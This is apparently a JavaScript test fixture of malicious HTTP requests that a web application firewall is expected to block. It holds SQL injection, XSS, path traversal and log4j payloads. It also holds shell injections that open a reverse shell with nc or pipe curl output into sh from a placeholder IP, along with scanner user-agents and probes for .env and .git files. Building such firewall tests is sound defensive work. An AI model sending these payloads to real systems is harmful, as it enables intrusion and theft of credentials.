/** Requests that nobody honest sends, one for each payload and input. The firewall must refuse every one. */

const payloads = {
  'SQL: always true': `1' OR '1'='1`,
  'SQL: union': `1 UNION SELECT username, password FROM users--`,
  'SQL: stacked': `1; DROP TABLE tasks--`,
  'SQL: asleep': `1 AND pg_sleep(10)--`,
  'SQL: comment': `admin'--`,
  'SQL: schema': `1 UNION ALL SELECT table_name FROM information_schema.tables`,
  'SQL: benchmark': `1' AND benchmark(10000000,md5(1))#`,
  'SQL: boolean': `1) OR (1=1`,
  'XSS: script': `<script>alert(1)</script>`,
  'XSS: image': `<img src=x onerror=alert(1)>`,
  'XSS: svg': `<svg/onload=alert(1)>`,
  'XSS: address': `javascript:alert(document.cookie)`,
  'XSS: frame': `<iframe src="javascript:alert(1)">`,
  'XSS: body': `"><body onload=alert(1)>`,
  'path: passwd': `../../../../etc/passwd`,
  'path: windows': `..\\..\\windows\\win.ini`,
  'path: absolute': `/etc/shadow`,
  'path: proc': `/proc/self/environ`,
  'path: file address': `file:///etc/passwd`,
  'shell: cat': `; cat /etc/passwd`,
  'shell: pipe': `| nc -e /bin/sh 203.0.113.1 4444`,
  'shell: substitution': '$(curl http://203.0.113.1/x.sh | sh)',
  'shell: ticks': '`wget http://203.0.113.1/x`',
  'shell: and': `&& ping -c 10 203.0.113.1`,
  'template: embedded': `<%= process.env %>`,
  'template: log4j': '${jndi:ldap://203.0.113.1/a}',
  'node: require': `require('child_process').exec('id')`,
  'node: prototype': `__proto__[admin]=1;constructor.prototype.admin=1`,
  'node: function': `new Function('return process')`,
  'node: main module': `process.mainModule.require('child_process')`,
  'query operator': `{"$gt":""}`,
  'header splitting': `\r\nSet-Cookie: a=b`,
  'server-side request': `http://169.254.169.254/latest/meta-data/`,
}

const json = { 'content-type': 'application/json' }

const inputs = {
  'a query': (text) => ({ path: `/api/v1/orgs?cursor=${encodeURIComponent(text)}` }),
  'a field that is no free text': (text) => ({ path: '/api/v1/orgs', method: 'POST', headers: json, body: JSON.stringify({ slug: text }) }),
  'a tRPC field that is no free text': (text) => ({
    path: '/trpc/organizations.create?batch=1',
    method: 'POST',
    headers: json,
    body: JSON.stringify({ 0: { slug: text } }),
  }),
}

const others = [
  ['a scanner', { path: '/api/v1', headers: { 'user-agent': 'sqlmap/1.8' } }],
  ['another scanner', { path: '/api/v1', headers: { 'user-agent': 'Nikto/2.5' } }],
  ['a third scanner', { path: '/api/v1', headers: { 'user-agent': 'masscan/1.3' } }],
  ['a method that nothing takes', { path: '/api/v1/orgs', method: 'PATCH' }],
  ['TRACE', { path: '/api/v1', method: 'TRACK' }],
  ['a path that climbs', { path: '/api/v1/orgs/..%252f..%252fetc%252fpasswd' }],
  ['a file of secrets', { path: '/api/v1/.git/config' }],
  ['another file of secrets', { path: '/api/v1/.env' }],
  ['a form', { path: '/api/v1/orgs', method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'a=1' }],
  ['XML', { path: '/api/v1/orgs', method: 'POST', headers: { 'content-type': 'text/xml' }, body: '<a/>' }],
  ['shellshock', { path: '/api/v1', headers: { 'user-agent': '() { :; }; /bin/bash -c id' } }],
]

/** As `{ title, path, method, headers, body }`. */
export const attacks = [
  ...Object.entries(inputs).flatMap(([input, request]) =>
    Object.entries(payloads).map(([kind, text]) => ({ title: `${kind} in ${input}`, ...request(text) })),
  ),
  ...others.map(([title, request]) => ({ title, ...request })),
]
